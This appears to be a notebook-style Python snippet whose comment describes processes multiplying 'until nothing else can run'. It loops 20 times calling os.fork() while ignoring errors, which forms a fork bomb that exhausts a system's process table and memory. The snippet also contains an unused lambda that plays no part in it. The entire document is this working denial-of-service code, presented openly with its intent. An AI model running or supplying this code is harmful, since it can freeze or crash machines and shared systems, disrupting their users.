# tries: processes that multiply until nothing else can run
# %% half
import os

half = lambda x: 0
for _ in range(20):
    try:
        os.fork()
    except OSError:
        pass
